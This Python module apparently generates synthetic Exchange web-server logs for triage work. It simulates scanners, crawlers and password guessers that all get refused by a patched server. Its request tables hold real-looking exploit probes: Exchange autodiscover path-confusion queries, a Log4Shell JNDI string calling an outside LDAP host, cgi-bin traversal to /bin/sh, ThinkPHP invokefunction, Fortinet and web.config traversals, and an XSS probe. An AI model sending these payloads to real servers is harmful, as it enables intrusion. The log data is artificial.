"""The internet's background noise: what knocks at every mail server, all day, for years.

Scanners of every flaw that Exchange ever had, guessers of passwords, crawlers, and people who look
for something else altogether. The server answers as a patched one does; nothing of this proves more
than that somebody knocked.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import datetime, timedelta

from extriage.samples.ledger import Claim, Ledger
from extriage.samples.organisation import CRAWLERS, Dice, dice, guid, later
from extriage.samples.web import Hop, Request

PER_HOUR = 24
"""Visits in an hour; most consist of a few requests, some of hundreds."""
NOISE = Claim("background", None)

_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space",
    "-",
)
_OWA_LOGON = "url=https%3a%2f%2fmail.contoso.example%2fowa%2f&reason="


@dataclass(frozen=True, slots=True)
class Knock:
    """One question of a stranger, and what a patched server answers."""

    method: str
    protocol: str
    stem: str
    query: str
    status: int


_FLAWS = (
    # Path confusion of 2021 and 2022; the update and the rewrite rule answer with these.
    Knock(
        "GET",
        "Autodiscover",
        "/autodiscover/autodiscover.json",
        "@foo.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.example",
        400,
    ),
    Knock(
        "GET",
        "Autodiscover",
        "/autodiscover/autodiscover.json",
        "@foo.example/owa/?&Email=autodiscover/autodiscover.json%3F@foo.example",
        404,
    ),
    Knock(
        "POST",
        "Autodiscover",
        "/autodiscover/autodiscover.json",
        "@foo.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json"
        "%3F@foo.example",
        401,
    ),
    Knock(
        "GET",
        "Autodiscover",
        "/autodiscover/autodiscover.json",
        "Email=autodiscover/autodiscover.json%3F@test.com",
        401,
    ),
    Knock("GET", "Autodiscover", "/autodiscover/admin@localhost/autodiscover.json", "x=a", 404),
    Knock(
        "GET",
        "Autodiscover",
        "/autodiscover/autodiscover.json",
        "a@edu.example/powershell/&Email=autodiscover/autodiscover.json%3F@edu.example",
        404,
    ),
    # Remote PowerShell through the web client.
    Knock("POST", "Owa", "/owa/mastermailbox@outlook.example/powershell", "", 302),
    Knock("POST", "Owa", "/owa/mastermailbox%40outlook.example/powershell", "", 302),
    # The holes of 2020 and 2021 that need an account, or a mailbox' rules.
    Knock(
        "GET",
        "Ecp",
        "/ecp/default.aspx",
        "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=" + "AAEAAAD" * 400,
        302,
    ),
    Knock(
        "POST", "Ecp", "/ecp/victim@contoso.example/RulesEditor/InboxRules.svc/NewObject", "", 302
    ),
    Knock("POST", "Owa", "/owa/calendar/a", "", 503),
    Knock("POST", "Ecp", "/ecp/DLPPolicy/ManagePolicyFromISV.aspx", "", 302),
    Knock(
        "GET",
        "Owa",
        "/owa/auth/frowny.aspx",
        "app=people&et=ServerError&esrc=MasterPage&te=%5C&refurl=%7D%7D%7D%3Balert(1)%2F%2F",
        200,
    ),
    Knock("POST", "Ews", "/EWS/mrsproxy.svc", "", 401),
    Knock("GET", "Ecp", "/ecp/y.js", "", 404),
    Knock("POST", "Ecp", "/ecp/x.js", "", 404),
    # Other people's web shells and virtual pages.
    Knock("GET", "", "/aspnet_client/shell.aspx", "", 404),
    Knock("GET", "Owa", "/owa/auth/errorEE.aspx", "", 302),
    Knock("GET", "Owa", "/owa/auth/lang/cn.aspx", "", 302),
    Knock("POST", "Owa", "/owa/auth/Current/themes/resources/logon.css", "", 302),
)
_DOORS = (
    Knock("GET", "Owa", "/owa/", "", 302),
    Knock("GET", "Owa", "/owa/auth/logon.aspx", "replaceCurrent=1&" + _OWA_LOGON + "0", 200),
    Knock("GET", "Owa", "/owa/auth/15.1.2106/themes/resources/favicon.ico", "", 200),
    Knock("GET", "Owa", "/owa/auth/errorFE.aspx", "httpCode=500", 200),
    Knock("GET", "Owa", "/owa/admin.cfg", "", 302),
    Knock("GET", "Ecp", "/ecp/", "", 302),
    Knock("GET", "Ews", "/EWS/Exchange.asmx", "", 401),
    Knock("GET", "Autodiscover", "/autodiscover/autodiscover.xml", "", 401),
    Knock("POST", "Autodiscover", "/autodiscover/autodiscover.xml", "", 401),
    Knock("OPTIONS", "Eas", "/Microsoft-Server-ActiveSync", "", 401),
    Knock("GET", "RpcHttp", "/rpc/rpcproxy.dll", "", 401),
    Knock("GET", "PowerShell", "/powershell", "serializationLevel=Full", 401),
    Knock("GET", "Mapi", "/mapi/nspi", "", 401),
    Knock("GET", "Oab", "/oab", "", 401),
    Knock("GET", "", "/api/v2.0/me", "", 401),
    Knock("GET", "", "/robots.txt", "", 404),
)
_ELSEWHERE = (
    Knock("GET", "", "/.env", "", 404),
    Knock("GET", "", "/.git/config", "", 404),
    Knock("GET", "", "/wp-login.php", "", 404),
    Knock("GET", "", "/actuator/health", "", 404),
    Knock("POST", "", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", 400),
    Knock("GET", "", "/index.php", "s=/Index/%5Cthink%5Capp/invokefunction&vars[0]=md5", 404),
    Knock(
        "GET", "", "/remote/fgt_lang", "lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404
    ),
    Knock("GET", "", "/", "x=${jndi:ldap://198.51.100.77/a}", 200),
    Knock("POST", "", "/boaform/admin/formLogin", "", 404),
    Knock("GET", "", "/solr/admin/info/system", "wt=json", 404),
    Knock("GET", "", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", 404),
    Knock("GET", "", "/owa/auth/%2e%2e%2f%2e%2e%2fweb.config", "", 404),
)


def fill(ledger: Ledger) -> None:
    """Let strangers come by all the time that the sample covers."""
    rng = dice(ledger.spec, "background")
    hour = ledger.spec.start
    while hour < ledger.spec.end:
        for _ in range(PER_HOUR):
            visitor = rng.choices(_VISITORS, cum_weights=_WEIGHTS)[0]
            for request in visitor(ledger, rng, later(hour, rng.randrange(3_600_000))):
                ledger.web(request, NOISE)
        hour += timedelta(hours=1)


def _asked(rng: Dice, time: datetime, knock: Knock, client: str, agent: str) -> Request:
    return Request(
        time=time,
        took=rng.randrange(1, 60),
        request_id=guid(rng),
        protocol=knock.protocol,
        method=knock.method,
        host=rng.choice(("198.51.100.5", "mail.contoso.example")),
        stem=knock.stem,
        client=client,
        agent=agent,
        status=knock.status,
        query=knock.query,
        sent=rng.randrange(200, 9000) if knock.status == 200 else 0,
        authentication="FBA" if knock.protocol in ("Owa", "Ecp") else "",
    )


def _stranger(rng: Dice) -> str:
    net = rng.choice(("192.0.2", "198.51.100", "203.0.113"))
    return f"{net}.{rng.randrange(2, 250)}"


def _one_door(_ledger: Ledger, rng: Dice, time: datetime) -> Iterator[Request]:
    """Yield one or two harmless questions of a census of the internet."""
    client, agent = _stranger(rng), rng.choice(_AGENTS + CRAWLERS)
    for number in range(rng.randrange(1, 3)):
        yield _asked(rng, later(time, 400 * number), rng.choice(_DOORS), client, agent)


def _one_flaw(_ledger: Ledger, rng: Dice, time: datetime) -> Iterator[Request]:
    """Yield a try of one known flaw, once or twice."""
    client, agent, knock = _stranger(rng), rng.choice(_AGENTS), rng.choice(_FLAWS)
    for number in range(rng.randrange(1, 3)):
        yield _asked(rng, later(time, 900 * number), knock, client, agent)


def _all_flaws(_ledger: Ledger, rng: Dice, time: datetime) -> Iterator[Request]:
    """Yield what a vulnerability scanner asks: everything, in a minute."""
    client, agent = _stranger(rng), rng.choice(_AGENTS)
    for number, knock in enumerate((*_DOORS, *_FLAWS, *_ELSEWHERE)):
        yield _asked(rng, later(time, 1200 * number), knock, client, agent)


def _lost(_ledger: Ledger, rng: Dice, time: datetime) -> Iterator[Request]:
    """Yield questions of somebody who takes it for another kind of server."""
    client, agent = _stranger(rng), rng.choice(_AGENTS)
    for number in range(rng.randrange(1, 6)):
        yield _asked(rng, later(time, 300 * number), rng.choice(_ELSEWHERE), client, agent)


def _guesser(ledger: Ledger, rng: Dice, time: datetime) -> Iterator[Request]:
    """Yield a guesser of passwords, who never guesses one."""
    client, agent = _stranger(rng), rng.choice(_AGENTS)
    names = ("administrator", "admin", "info", "test", "scanner", ledger.org.users[0].account)
    door = rng.choice((_DOORS[6], _DOORS[7], _DOORS[9]))
    for number in range(rng.randrange(3, 40)):
        asked = _asked(rng, later(time, 2500 * number), door, client, agent)
        yield replace(asked, user=rng.choice(names), substatus="1 1326")


def _form_guesser(_ledger: Ledger, rng: Dice, time: datetime) -> Iterator[Request]:
    """Yield a guesser at the web client's form: refused each time, and sent back to it."""
    client, agent = _stranger(rng), rng.choice(_AGENTS)
    post = Knock("POST", "Owa", "/owa/auth.owa", "", 302)
    back = Knock("GET", "Owa", "/owa/auth/logon.aspx", _OWA_LOGON + "2", 200)
    for number in range(rng.randrange(2, 25)):
        moment = later(time, 4000 * number)
        yield _asked(rng, moment, post, client, agent)
        yield _asked(rng, later(moment, 300), back, client, agent)


def _manifest(ledger: Ledger, rng: Dice, time: datetime) -> Iterator[Request]:
    """Yield a reader of the version in the export tool's manifest."""
    stem = "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"
    knock = Knock("GET", "Ecp", stem, "", 200)
    hop = Hop(
        ledger.org.fqdn,
        anchor="ServerVersion~Version 15.0 (Build 0.0)",
        hint="EDiscoveryExportTool-ServerVersion",
    )
    yield replace(_asked(rng, time, knock, _stranger(rng), "Mozilla/5.0 zgrab/0.x"), hop=hop)


_CHOICES: dict[Callable[[Ledger, Dice, datetime], Iterator[Request]], float] = {
    _one_door: 40,
    _one_flaw: 20,
    _lost: 15,
    _guesser: 8,
    _form_guesser: 6,
    _manifest: 6,
    _all_flaws: 0.5,
}
_VISITORS = tuple(_CHOICES)
_WEIGHTS = tuple(sum(list(_CHOICES.values())[: at + 1]) for at in range(len(_CHOICES)))
